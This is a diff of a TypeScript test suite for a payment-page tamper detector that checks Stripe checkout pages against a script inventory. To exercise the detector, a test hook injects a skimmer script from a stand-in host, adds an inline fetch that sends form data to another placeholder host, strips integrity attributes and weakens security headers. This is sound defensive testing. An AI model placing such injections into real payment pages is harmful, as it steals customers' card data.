@@ -4,8 +4,10 @@ import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { paymentPageProbes, verifyPaymentPages } from '../../src/modules/page-integrity/index.js';
 import { readScriptInventory } from '../../src/web/script-inventory.js';
+import { startStripeServer } from '../payments/provider-servers.js';
+import { anOrder } from '../payments/support.js';
 import { createTestApp, type TestApp } from '../support/test-app.js';
-import { counterValue } from './security-helpers.js';
+import { counterValue, stripeEnv } from './security-helpers.js';
 
 const run = promisify(execFile);
 
@@ -26,30 +28,38 @@ async function freePort(): Promise<number> {
 describe('payment page tamper detection', () => {
   let t: TestApp;
   let base: string;
-  const tamper = { script: false, inline: false, dropHeader: false };
+  let stripe: Awaited<ReturnType<typeof startStripeServer>>;
+  const tamper = { script: false, inline: false, dropHeader: false, stripIntegrity: false };
   let auditCount = 0;
   const tamperEvents = async () => (await t.audit.listForTarget('payment_pages', base, 50)).length;
 
   beforeAll(async () => {
     const port = await freePort();
     base = `http://127.0.0.1:${port}`;
-    t = await createTestApp({ PAYMENTS: 'stripe', PAGE_INTEGRITY_CHECK_MINUTES: '15', PAGE_INTEGRITY_URL: base });
+    stripe = await startStripeServer();
+    t = await createTestApp({
+      ...stripeEnv, STRIPE_SECRET_KEY: 'sk_test_loopback0000', STRIPE_API_BASE_URL: stripe.url, PAGE_INTEGRITY_CHECK_MINUTES: '15', PAGE_INTEGRITY_URL: base,
+    });
     // Registered after the app's own hooks, so it changes the page after the security headers are set.
     t.app.addHook('onSend', async (request, reply, payload) => {
-      if (!request.url.startsWith('/checkout') || typeof payload !== 'string') return payload;
+      if (!/^\/(checkout|pay\/)/.test(request.url) || typeof payload !== 'string') return payload;
       if (tamper.dropHeader) {
         reply.removeHeader('x-frame-options');
         reply.header('content-security-policy', String(reply.getHeader('content-security-policy')).replace('script-src', "script-src 'unsafe-inline'"));
       }
       let html = payload;
       if (tamper.script) html = html.replace('</head>', '<script src="https://cdn.skimmer.example/s.js?id=1"></script></head>');
+      if (tamper.stripIntegrity) html = html.replace(/ integrity="[^"]*"/g, '');
       if (tamper.inline) html = html.replace('</body>', '<script>fetch("https://x.example", { method: "POST", body: document.forms[0] })</script></body>');
       return html;
     });
     await t.app.listen({ port, host: '127.0.0.1' });
     auditCount = await tamperEvents();
   });
-  afterAll(async () => t.close());
+  afterAll(async () => {
+    await t?.close();
+    await stripe?.close();
+  });
 
   const check = () =>
     verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: paymentPageProbes, inventory: readScriptInventory(), providers: t.config.payments });
@@ -58,6 +68,23 @@ describe('payment page tamper detection', () => {
     const report = await check();
     expect(report.pages.map((p) => p.path)).toEqual([...paymentPageProbes]);
     expect(report.differences).toEqual([]);
+  });
+
+  it('finds the real Stripe payment page (Stripe.js and our Payment Element script, with SRI) equal to the inventory', async () => {
+    const { paymentId } = await t.payments.start({ ...anOrder(4_200), provider: 'stripe' });
+    const path = `/pay/stripe/${paymentId}`;
+    const report = await verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: [path], inventory: readScriptInventory(), providers: t.config.payments });
+    expect(report.pages[0]).toMatchObject({ path, status: 200 });
+    expect(report.pages[0]?.scripts).toEqual(['https://js.stripe.com/v3/', expect.stringMatching(/^\/assets\/stripe-payment\.[0-9a-f]{12}\.js$/)]);
+    expect(report.differences).toEqual([]);
+
+    tamper.stripIntegrity = true;
+    try {
+      const stripped = await verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: [path], inventory: readScriptInventory(), providers: t.config.payments });
+      expect(stripped.differences).toEqual([expect.objectContaining({ page: path, kind: 'integrity' })]);
+    } finally {
+      tamper.stripIntegrity = false;
+    }
   });
 
   it('reports a script the inventory does not list, and inline code', async () => {
@@ -127,7 +154,7 @@ describe('payment page tamper detection', () => {
   });
 
   it('npm run pages:verify exits 0 on matching pages and 1 on a changed one', async () => {
-    const env = { ...process.env, PAGE_INTEGRITY_URL: base, PUBLIC_URL: t.config.publicUrl, PAYMENTS: 'stripe', NODE_ENV: 'test', DATABASE_URL: '' };
+    const env = { ...process.env, PAGE_INTEGRITY_URL: base, PUBLIC_URL: t.config.publicUrl, ...stripeEnv, NODE_ENV: 'test', DATABASE_URL: '' };
     const ok = await run('npx', ['tsx', 'src/cli/pages-verify.ts'], { env });
     expect(ok.stdout).toContain('match the script inventory');
     tamper.script = true;
